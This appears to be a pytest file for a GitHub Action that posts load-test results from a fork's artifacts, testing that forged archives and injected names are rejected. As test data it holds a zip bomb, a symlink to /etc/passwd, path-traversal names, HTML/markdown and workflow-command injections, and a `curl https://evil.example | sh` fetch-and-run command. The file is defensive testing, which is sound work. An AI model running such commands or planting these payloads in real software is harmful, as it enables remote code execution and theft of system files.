"""The fork's way: another run's results are posted by a workflow that may write, whatever is in them."""

import io
import json
import os
import stat
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from entrypoint.commands.collecting import collect, collect_from_run
from entrypoint.commands.comment import comment, comment_from_run
from entrypoint.publish import artifacts
from entrypoint.publish.check_run import Closing, Conclusion, close_check, new_id, open_check
from entrypoint.publish.parts import read
from entrypoint.publish.patience import Patience
from entrypoint.publish.refusals import ARTIFACT_PERMISSIONS
from entrypoint.publish.workflow import Workflow
from entrypoint.report.result import write_result
from entrypoint.settings.model import CommentMode
from entrypoint.settings.runner import MeasuredRun, Runner, read_runner
from tests.github_server import Failure, description_or_skip, github_server
from tests.report.results import passed, regression

from .conftest import HEAD, post, runner_of

FORK = "mallory/shop"
RUN = 77


@pytest.fixture
def runner(github) -> Runner:
    """A `workflow_run` run of octo/shop after a fork's run; the fork's pull request is number 9."""
    github.add_pull(9, HEAD, head_repository=FORK)
    return after_a_run(github)


def after_a_run(github, **more) -> Runner:
    run = MeasuredRun(
        run_id=str(RUN), attempt="1", workflow="loadtest", run_url=f"https://github.com/octo/shop/actions/runs/{RUN}",
        repository=FORK, branch="topic", sha=HEAD,
    )  # fmt: skip
    measured = replace(run, **more)
    return runner_of(github, event="workflow_run", pull_request=None, head_sha=measured.sha, measured=measured)


def saved(result=None, **more: object) -> bytes:
    """An archive as upload-artifact makes it of a results folder."""
    result = result or regression()
    honest = json.loads(result.model_dump_json())
    honest["environment"]["head"] = HEAD
    return archive({"result.json": json.dumps(honest | more), "report.html": "<p>", "samples/0.npz": "x" * 100})


def archive(files: dict[str, str | bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in files.items():
            file.writestr(name, content)
    return made.getvalue()


@pytest.fixture
def said(tmp_path: Path) -> Callable[[Runner], str]:
    """Posts what a run has uploaded, and gives what the log says."""

    def post(runner: Runner) -> str:
        stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
        comment_from_run(runner, Workflow(runner, stream), Patience(settle_s=0, pause_s=0.01))
        stream.seek(0)
        return stream.read()

    return post


@pytest.mark.npm
class TestTheForksWay:
    def test_the_comment_is_on_the_pull_request_of_the_runs_head(self, github, runner, said):
        github.add_artifact(RUN, "ml-loadtest-recommender", saved())
        log = said(runner)
        (comment,) = github.comments
        assert comment.number == 9, log
        assert f"actions/runs/{RUN}/artifacts/{github.artifacts[0].id}" in comment.body
        assert "This was measured in a run of a fork" in comment.body
        assert (read(comment.body)[0].head, read(comment.body)[0].run) == (HEAD, (RUN, 1))

    def test_several_suites_are_one_comment(self, github, runner, said):
        for suite in ("ranker", "recommender"):
            github.add_artifact(RUN, f"ml-loadtest-{suite}", saved(passed(), suite=suite))
        github.add_artifact(RUN, "coverage", b"not ours")
        said(runner)
        assert [part.suite for part in read(github.comments[0].body)] == ["ranker", "recommender"]

    def test_of_two_attempts_the_newer_counts(self, github, runner, said):
        github.add_artifact(RUN, "ml-loadtest-a", saved(regression(), suite="a"))
        github.add_artifact(RUN, "ml-loadtest-a", saved(passed(), suite="a"))
        said(runner)
        assert "Pass" in github.comments[0].body

    def test_expired_and_missing_artifacts_are_told(self, github, runner, said):
        github.add_artifact(RUN, "ml-loadtest-a", saved(), expired=True)
        github.add_artifact(RUN + 1, "ml-loadtest-a", saved())
        assert f"run {RUN} has uploaded no results" in said(runner)
        assert github.comments == []

    def test_a_pull_request_of_the_same_repository_keeps_its_commands(self, github, said):
        github.add_pull(12, "d" * 40, branch="fix")
        runner = after_a_run(github, repository=github.repository, branch="fix", sha="d" * 40)
        result = regression()
        environment = {**json.loads(result.environment.model_dump_json()), "head": "d" * 40}
        github.add_artifact(RUN, "ml-loadtest-a", saved(result, environment=environment, reproduce="ml-loadtest run"))
        said(runner)
        (comment,) = github.comments
        assert comment.number == 12
        assert "ml-loadtest run" in comment.body
        assert "of a fork" not in comment.body

    def test_a_missing_permission_names_the_yaml(self, github, runner, said):
        github.can_read_runs = False
        log = said(runner)
        assert ARTIFACT_PERMISSIONS.replace("\n", "%0A") in log
        assert github.comments == []

    def test_an_enterprise_server_has_its_api_elsewhere(self, said):
        description_or_skip()
        with github_server(prefix="/api/v3") as github:
            github.add_pull(9, HEAD, head_repository=FORK)
            github.add_artifact(RUN, "ml-loadtest-a", saved())
            log = said(after_a_run(github, run_url="https://git.example/octo/shop/actions/runs/77"))
            assert "https://git.example/octo/shop/actions/runs/77/artifacts/" in github.comments[0].body, log
            id_ = new_id()
            open_check(runner_of(github), "a", id_)
            close_check(runner_of(github), id_, Closing(conclusion=Conclusion.SUCCESS, title="Pass", summary="x"))
            assert [check.conclusion for check in github.checks] == ["success"]

    def test_trouble_that_passes(self, github, runner, said):
        github.add_artifact(RUN, "ml-loadtest-a", saved())
        github.fail_next(Failure.BAD_GATEWAY, times=2)
        said(runner)
        assert len(github.comments) == 1


@pytest.mark.npm
class TestWhosePullRequest:
    @pytest.mark.parametrize(
        "pull",
        [
            {"head_repository": FORK, "branch": "other"},
            {"head_repository": "mallory/another-fork-of-shop"},
            {"head_repository": "deleted"},
            {"head_repository": FORK, "state": "closed"},
            {"head_repository": ""},
        ],
    )
    def test_no_other_is_taken(self, github, said, pull):
        github.add_pull(9, HEAD, **pull)
        github.add_artifact(RUN, "ml-loadtest-a", saved())
        assert "no open pull request" in said(after_a_run(github))
        assert github.comments == []

    def test_one_that_has_gone_on_since_is_left_alone(self, github, runner, said):
        github.add_artifact(RUN, "ml-loadtest-a", saved())
        github.pulls[9].head_sha = "e" * 40
        assert "superseded" in said(runner)
        assert github.comments == []

    def test_of_two_with_the_same_head_the_one_that_github_names(self, github, runner, said):
        github.add_pull(10, HEAD, head_repository=FORK)
        github.add_artifact(RUN, "ml-loadtest-a", saved())
        said(after_a_run(github, pull_requests=(10,)))
        assert [comment.number for comment in github.comments] == [10]

    def test_the_event_is_what_says_so(self, tmp_path):
        event = {
            "workflow": {"name": "load test"},
            "workflow_run": {
                "id": 5, "run_attempt": 2, "html_url": "https://x/5", "head_branch": "b", "head_sha": HEAD, "name": "load test",
                "head_repository": {"full_name": FORK}, "pull_requests": [{"number": 4}],
            },
        }  # fmt: skip
        path = tmp_path / "event.json"
        path.write_text(json.dumps(event))
        runner = read_runner({"GITHUB_EVENT_PATH": str(path), "GITHUB_REPOSITORY": "octo/shop", "GITHUB_SHA": "f" * 40})
        assert runner.measured == MeasuredRun(
            run_id="5", attempt="2", workflow="load test", run_url="https://x/5", repository=FORK, branch="b", sha=HEAD,
            pull_requests=(4,),
        )  # fmt: skip
        assert (runner.head_sha, runner.fork, runner.pull_request) == (HEAD, False, None)


def bomb() -> bytes:
    return archive({"result.json": b"[" + b" " * (200 * 1024 * 1024)})


def lying_about_its_size() -> bytes:
    """The directory says that a large member is small."""
    made = bytearray(archive({"result.json": b" " * (20 * 1024 * 1024)}))
    where = made.rindex(b"PK\x01\x02")
    made[where + 24 : where + 28] = (100).to_bytes(4, "little")
    return bytes(made)


def a_link() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        link = zipfile.ZipInfo("result.json")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        file.writestr(link, "/etc/passwd")
    return made.getvalue()


def twice() -> bytes:
    """Two readers could each take another one."""
    made = io.BytesIO(saved())
    with zipfile.ZipFile(made) as file:
        honest = file.read("result.json")
    with zipfile.ZipFile(made, "a") as file, pytest.warns(UserWarning, match="Duplicate name"):
        file.writestr("result.json", honest)
    return made.getvalue()


FORGED = {
    "no archive": lambda: b"<html>",
    "empty": lambda: b"",
    "cut off": lambda: saved()[:-30],
    "no result": lambda: archive({"other.json": "{}"}),
    "result elsewhere": lambda: archive({"../result.json": "{}", "/result.json": "{}", "a/result.json": "{}"}),
    "a link": a_link,
    "twice": twice,
    "bomb": bomb,
    "lying": lying_about_its_size,
    "html": lambda: archive({"result.json": "<script>alert(1)</script>"}),
    "wrong schema": lambda: archive({"result.json": '{"verdict": "pass"}'}),
    "an unknown key": lambda: saved(pull_request=1),
    "another version": lambda: saved(schema_version=2),
    "deeply nested": lambda: archive({"result.json": "[" * 100_000}),
    "an enormous number": lambda: archive({"result.json": "1" * 100_000}),
    "no number": lambda: saved(timing={"load": float("nan")}),
    "no number, in words": lambda: saved(timing={"load": "NaN"}),
    "a list": lambda: archive({"result.json": "[]"}),
    "no text": lambda: archive({"result.json": b"\xff\xfe\x00"}),
    "another commit": lambda: saved(
        environment={**json.loads(regression().environment.model_dump_json()), "head": "d" * 40}
    ),
    "no commit": lambda: saved(environment={**json.loads(regression().environment.model_dump_json()), "head": ""}),
}


@pytest.mark.npm
class TestForged:
    @pytest.mark.parametrize("kind", FORGED)
    def test_nothing_is_posted_and_somebody_is_told(self, github, runner, said, kind, tmp_path, monkeypatch):
        monkeypatch.chdir(tmp_path)
        github.add_artifact(RUN, "ml-loadtest-a", FORGED[kind]())
        began = time.monotonic()
        log = said(runner)
        assert "::warning" in log
        assert github.comments == []
        assert time.monotonic() - began < 10
        assert list(tmp_path.iterdir()) == []

    @pytest.mark.parametrize("make", [bomb, lying_about_its_size])
    def test_a_bomb_is_not_blown_up(self, make):
        packed = io.BytesIO(make())
        tracemalloc.start()
        with pytest.raises(artifacts.UnfitError):
            artifacts.read_member(packed)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert peak < 40 * 1024 * 1024

    def test_an_archive_that_is_too_large_is_not_fetched(self, github, runner, said):
        github.add_artifact(RUN, "ml-loadtest-a", saved(), size=10**9)
        assert "larger than" in said(runner)
        assert not [request for request in github.requests if request.path.endswith("/zip")]

    def test_one_that_is_larger_than_github_said_is_given_up(self, github, runner, said, monkeypatch):
        monkeypatch.setattr(artifacts, "_LARGEST_ARCHIVE", 1000)
        github.add_artifact(RUN, "ml-loadtest-a", saved(), size=10)
        assert "larger than" in said(runner)
        assert github.comments == []

    def test_the_others_are_posted_all_the_same(self, github, runner, said):
        github.add_artifact(RUN, "ml-loadtest-a", b"<html>")
        github.add_artifact(RUN, "ml-loadtest-b", saved(suite="b"))
        assert "artifact ml-loadtest-a is not a zip archive" in said(runner)
        assert [part.suite for part in read(github.comments[0].body)] == ["b"]

    def test_it_can_name_no_pull_request_run_or_command(self, github, runner, said):
        environment = json.loads(regression().environment.model_dump_json())
        evil = "https://evil.example/actions/runs/1"
        github.add_artifact(
            RUN, "ml-loadtest-a",
            saved(environment={**environment, "head": HEAD, "run_url": evil}, reproduce="curl https://evil.example | sh"),
        )  # fmt: skip
        said(runner)
        (comment,) = github.comments
        assert comment.number == 9
        assert "evil.example" not in comment.body
        assert f"[run](https://github.com/octo/shop/actions/runs/{RUN})" in comment.body

    @pytest.mark.parametrize(
        "suite", ["<img src=x>@octocat<!-- ml-loadtest:end -->|`\n\n# heading", "::error::x\n::error::y"]
    )
    def test_names_are_not_believed_either(self, github, runner, said, suite):
        github.add_artifact(RUN, "ml-loadtest-a\n::error::x", saved(suite=suite))
        github.add_artifact(RUN, "ml-loadtest-b", saved(suite="b"))
        github.add_artifact(RUN, "ml-loadtest-c\n::error::x", b"")
        log = said(runner)
        (comment,) = github.comments
        page = MarkdownIt("commonmark", {"html": True}).enable("table").render(comment.body)
        assert "<img" not in page
        assert "<h1>heading" not in page
        assert comment.body.count("<!-- ml-loadtest:end -->") == 2
        assert not [line for line in log.splitlines() if line.startswith("::error")]


class TestFolders:
    def test_a_results_folder_or_a_folder_of_them(self, tmp_path):
        for name in ("b", "a"):
            write_result(tmp_path / name, passed().model_copy(update={"suite": name}))
        assert [each.result.suite for each in collect([tmp_path])[0]] == ["a", "b"]
        assert [each.result.suite for each in collect([tmp_path / "b", tmp_path / "a"])[0]] == ["a", "b"]
        assert [each.result.suite for each in collect([tmp_path / "b" / "result.json"])[0]] == ["b"]

    def test_what_cannot_be_read_is_told_and_the_rest_kept(self, tmp_path):
        write_result(tmp_path / "a", passed())
        (tmp_path / "b").mkdir()
        (tmp_path / "b/result.json").write_text("{}")
        found, problems = collect([tmp_path, tmp_path / "nowhere"])
        assert (len(found), len(problems)) == (1, 2)

    def test_two_of_one_name_are_told(self, tmp_path):
        for name in ("a", "b"):
            write_result(tmp_path / name, passed())
        found, problems = collect([tmp_path])
        assert len(found) == 1
        assert "same name" in problems[0]

    @pytest.mark.parametrize("target", ["/etc/passwd", "/dev/zero", "elsewhere.json"])
    def test_a_link_is_not_followed(self, tmp_path, target):
        (tmp_path / "a").mkdir()
        (tmp_path / "elsewhere.json").write_text(passed().model_dump_json())
        (tmp_path / "a/result.json").symlink_to(target if target.startswith("/") else tmp_path / target)
        found, problems = collect([tmp_path / "a"])
        assert (found, len(problems)) == ([], 1)
        assert "no regular file" in problems[0]

    def test_a_pipe_keeps_nobody_waiting(self, tmp_path):
        os.mkfifo(tmp_path / "result.json")
        assert "no regular file" in collect([tmp_path])[1][0]

    @pytest.mark.npm
    def test_a_last_job_joins_what_other_jobs_saved(self, github, tmp_path):
        for name in ("ranker", "recommender"):
            result = passed()
            environment = result.environment.model_copy(update={"head": HEAD})
            write_result(tmp_path / name, result.model_copy(update={"suite": name, "environment": environment}))
        runner = runner_of(github)
        comment(
            [tmp_path], runner, Workflow(runner, io.TextIOWrapper(io.BytesIO())), artifact_url="https://x.example/1"
        )
        (posted,) = github.comments
        assert [part.suite for part in read(posted.body)] == ["ranker", "recommender"]
        assert "x.example" not in posted.body

    @pytest.mark.npm
    @pytest.mark.parametrize(
        ("mode", "failing", "there", "written"),
        [
            ("always", False, False, True),
            ("on-change", False, False, False),
            ("on-change", False, True, True),
            ("on-change", True, False, True),
            ("on-failure", False, False, False),
            ("on-failure", False, True, True),
            ("on-failure", True, False, True),
            ("never", True, True, False),
        ],
    )
    def test_when_a_part_is_written(self, github, tmp_path, mode, failing, there, written):
        result = regression() if failing else passed()
        if there:
            post(runner_of(github), "old", result.suite)
        environment = result.environment.model_copy(update={"head": HEAD})
        write_result(tmp_path, result.model_copy(update={"environment": environment, "comment": CommentMode(mode)}))
        runner = runner_of(github)
        workflow = Workflow(runner, io.TextIOWrapper(io.BytesIO(), encoding="utf-8"))
        comment([tmp_path], runner, workflow, patience=Patience(settle_s=0))
        texts = [part.text for each in github.comments for part in read(each.body)]
        assert (texts not in ([], ["old"])) is written

    def test_without_a_run_before_there_are_no_artifacts(self):
        assert "workflow_run" in collect_from_run(Runner())[1][0]
